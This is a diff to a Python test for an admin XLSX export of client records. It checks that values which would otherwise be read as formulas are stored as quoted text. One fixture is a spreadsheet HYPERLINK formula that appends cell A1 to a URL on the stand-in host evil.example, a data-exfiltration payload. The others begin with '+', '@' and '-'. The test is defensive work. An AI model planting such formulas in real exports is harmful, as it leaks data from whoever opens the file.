@@ -187,18 +187,33 @@ def test_selected_clients_export_to_xlsx_without_formulas(client, operator):
 
     from openpyxl import load_workbook
 
-    target = make_client(last_name='=HYPERLINK("http://evil")', company_name="ООО «Колесо»")
+    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Открыть")'
+    target = make_client(
+        last_name=hyperlink,
+        first_name="+1+1",
+        middle_name="@SUM(1)",
+        company_name="-2+3",
+    )
     make_client(last_name="Невыбранный")
 
     response = client.post(CHANGELIST, {"action": "export_xlsx", ACTION_CHECKBOX_NAME: [target.pk]})
 
     assert response.status_code == 200
     assert response["Content-Type"].startswith("application/vnd.openxmlformats")
-    rows = list(load_workbook(BytesIO(response.content)).active.iter_rows(values_only=True))
-    assert rows[0][:4] == ("Фамилия", "Имя", "Отчество", "E-mail")
+    sheet = load_workbook(BytesIO(response.content)).active
+    rows = list(sheet.iter_rows())
+    assert [cell.value for cell in rows[0][:4]] == ["Фамилия", "Имя", "Отчество", "E-mail"]
     assert len(rows) == 2
-    assert rows[1][0] == '\'=HYPERLINK("http://evil")'
-    assert rows[1][5] == "ООО «Колесо»"
+    # Every cell shows exactly the client's text, stored as text with Excel's quote prefix:
+    # never a formula, not even after the operator edits the cell.
+    for cell, text in zip(
+        [rows[1][0], rows[1][1], rows[1][2], rows[1][5]],
+        [hyperlink, "+1+1", "@SUM(1)", "-2+3"],
+        strict=True,
+    ):
+        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
+    # An ordinary text carries no prefix.
+    assert (rows[1][3].value, rows[1][3].quotePrefix) == (target.user.email, False)
 
 
 def test_dashboard_counts_clients(client, operator):
